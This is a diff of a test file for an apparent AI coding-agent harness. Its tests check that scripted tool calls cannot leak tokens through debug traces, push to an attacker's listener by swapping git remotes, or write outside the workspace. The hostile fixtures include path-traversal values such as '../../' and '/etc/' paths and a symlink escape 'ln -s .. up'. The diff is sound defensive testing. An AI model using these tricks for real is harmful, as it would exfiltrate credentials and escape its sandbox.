@@ -22,28 +22,12 @@ function debugging(trace: string): Record<string, string> {
   };
 }
 
-test("P10: a job that is debugged tells no secret, neither in its log nor in a trace of git", async () => {
-  const { play, stage } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } });
-  const trace = join(stage.folder, "trace.txt");
-  const { rehearsal } = await play({ environment: debugging(trace) });
-  expect(rehearsal.outputs.outcome).toBe("changed");
-  expect(existsSync(trace)).toBe(false);
-});
-
 test("P10: where Node itself is told to print what it starts, the log has the token of a push masked", async () => {
   // The runner's masks are only in the log.
   const { play } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } }, / in stdout$/);
   const { rehearsal } = await play({ environment: { NODE_DEBUG: "child_process,http,https,net,tls" } });
   expect(rehearsal.runner.log.some(({ text }) => text.includes("AUTHORIZATION: basic ***"))).toBe(true);
   expect(rehearsal.outputs.outcome).toBe("changed");
-});
-
-test("P10, its benign twin: the same run without it does the same, and says what it does", async () => {
-  const { play } = await sceneWith({ script: fixed, inputs: { "commit-mode": "git" } });
-  const { rehearsal } = await play();
-  expect(rehearsal.outputs.outcome).toBe("changed");
-  expect(rehearsal.diff).toContain("+fixed");
-  expect(rehearsal.runner.stdout).toContain("note.txt");
 });
 
 /** What a remote of the attacker's hears. */
@@ -71,72 +55,81 @@ function swaps(evil: string, serverUrl: string): string {
   ].join("; ");
 }
 
-test.for([
-  ["git", "auto"],
-  ["api", "auto"],
-  // Without a sandbox tools reach the listener, which shows that these settings do send git elsewhere.
-  ["git", "none"],
-])(
-  "P24: whatever remote a tool sets, work goes where the job said (commit-mode: %s, isolation: %s)",
-  async ([mode = "", isolation = ""]) => {
-    const evil = await listener();
-    let byTools = 0;
-    let serverUrl = "";
-    const { play, stage } = await sceneWith({
-      script: [
-        write("note.txt", "fixed\n"),
-        () => bash(`${swaps(evil.url, serverUrl)}; git ls-remote origin; git push origin HEAD:main; true`),
-        () => {
-          byTools = evil.heard.length;
-          return call("finish", { message: "Fixed." });
-        },
-      ],
-      inputs: { "commit-mode": mode, isolation },
-    });
-    serverUrl = stage.github.serverUrl;
-    const { rehearsal } = await play();
-    expect(rehearsal.outputs.outcome).toBe("changed");
-    expect(rehearsal.diff).toContain("+fixed");
-    expect(byTools > 0).toBe(isolation === "none");
-    expect(evil.heard.slice(byTools)).toEqual([]);
-    expect(evil.heard.join("\n")).not.toMatch(/authorization/i);
-  },
-);
-
-test("P24, its benign twin: a tool may add a remote and look at what there is", async () => {
-  const { play } = await sceneWith({
-    script: [bash("git remote add upstream https://upstream.test/app; git remote -v"), ...fixed],
+test("P10, P24: whatever remote a tool sets, work goes where the job said, and a job that is debugged tells no secret, neither in its log nor in a trace of git", async () => {
+  const evil = await listener();
+  let serverUrl = "";
+  const { play, stage } = await sceneWith({
+    script: [write("note.txt", "fixed\n"), () => bash(wander(evil.url, serverUrl)), ...answer],
+    inputs: { "commit-mode": "git" },
   });
-  const { rehearsal, told } = await play();
-  expect(told).toContain("https://upstream.test/app (push)");
+  serverUrl = stage.github.serverUrl;
+  const trace = join(stage.folder, "trace.txt");
+  const { rehearsal } = await play({ environment: debugging(trace) });
   expect(rehearsal.outputs.outcome).toBe("changed");
+  expect(rehearsal.diff).toContain("+fixed");
+  expect(evil.heard).toEqual([]);
+  expect(existsSync(trace)).toBe(false);
 });
 
-test("P26: what would be written outside the workspace is refused by its name, and is not there", async () => {
+test("P24: without a sandbox tools reach the listener, so these settings do send git elsewhere, but not ours", async () => {
+  const evil = await listener();
+  let byTools = 0;
+  let serverUrl = "";
+  const { play, stage } = await sceneWith({
+    script: [
+      write("note.txt", "fixed\n"),
+      () => bash(wander(evil.url, serverUrl)),
+      () => {
+        byTools = evil.heard.length;
+        return call("finish", { message: "Fixed." });
+      },
+    ],
+    inputs: { "commit-mode": "git", isolation: "none" },
+  });
+  serverUrl = stage.github.serverUrl;
+  const { rehearsal } = await play();
+  expect(rehearsal.outputs.outcome).toBe("changed");
+  expect(rehearsal.diff).toContain("+fixed");
+  expect(byTools).toBeGreaterThan(0);
+  expect(evil.heard.slice(byTools)).toEqual([]);
+  expect(evil.heard.join("\n")).not.toMatch(/authorization/i);
+});
+
+function wander(evil: string, serverUrl: string): string {
+  return `${swaps(evil, serverUrl)}; git ls-remote origin; git push origin HEAD:main; true`;
+}
+
+test("P24, P26: what would be written outside the workspace is refused by its name, and is not there; what is inside goes where the job said by API, too", async () => {
   const name = `deckhand-${randomUUID()}`;
   const absolute = [join("/etc", name), join(homedir(), name)];
   const paths = [`../../${name}`, ...absolute, `a/../../${name}`, `up/${name}`, ".git/../../x"];
+  const evil = await listener();
+  let serverUrl = "";
   const { play, stage } = await sceneWith({
     script: [
-      bash("ln -s .. up"),
+      () => bash(`ln -s .. up; ${wander(evil.url, serverUrl)}`),
       paths.reduce(
         (also: ScriptedReply, path) => call("file_editor", { command: "create", path, file_text: "x" }, also),
         {},
       ),
       call("file_editor", { command: "insert", path: "../../kept.txt", insert_line: 0, new_str: "evil" }),
       call("file_editor", { command: "str_replace", path: "up/../kept.txt", old_str: "theirs", new_str: "evil" }),
-      ...answer,
+      ...fixed,
     ],
+    inputs: { "commit-mode": "api" },
     toolErrors: /^file_editor: (?:".*" is outside the workspace|Cannot read "up\/\.\.\/kept\.txt")/,
   });
+  serverUrl = stage.github.serverUrl;
   const kept = join(stage.folder, "kept.txt");
   writeFileSync(kept, "theirs\n");
   onTestFinished(() => absolute.forEach((path) => void rmSync(path, { force: true })));
-  const { told } = await play();
+  const { rehearsal, told } = await play();
   for (const path of [...paths, "../../kept.txt"]) expect(told).toContain(`"${path}" is outside the workspace`);
   expect(readFileSync(kept, "utf8")).toBe("theirs\n");
   const found = pathsIn(stage.folder).filter((path) => basename(path) === name);
   expect([...found, ...absolute.filter((path) => existsSync(path))]).toEqual([]);
+  expect([rehearsal.outputs.outcome, evil.heard]).toEqual(["changed", []]);
+  expect(rehearsal.diff).toContain("+fixed");
 });
 
 /** Every path in a folder. Node's recursive listing follows links, and "up" is a link to a folder above it. */
@@ -147,16 +140,20 @@ function pathsIn(folder: string): string[] {
   });
 }
 
-test("P26, its benign twin: what only looks like it is written inside, and published", async () => {
+test("P10, P24, P26, their benign twin: a tool may add a remote and look at what there is, and what only looks like it is elsewhere is written inside, and published", async () => {
   const { play } = await sceneWith({
     script: [
-      bash("mkdir -p deep && ln -s deep short"),
+      bash("git remote add upstream https://upstream.test/app; git remote -v; mkdir -p deep && ln -s deep short"),
       write("deep/../deep/er/..note.txt", "one\n"),
       write("short/note.txt", "two\n"),
-      ...answer,
+      ...fixed,
     ],
+    inputs: { "commit-mode": "git" },
   });
-  const { rehearsal } = await play();
+  const { rehearsal, told } = await play();
+  expect(told).toContain("https://upstream.test/app (push)");
   expect(rehearsal.outputs.outcome).toBe("changed");
+  expect(rehearsal.diff).toContain("+fixed");
   for (const path of ["deep/er/..note.txt", "deep/note.txt"]) expect(rehearsal.diff).toContain(`b/${path}`);
+  expect(rehearsal.runner.stdout).toContain("note.txt");
 });
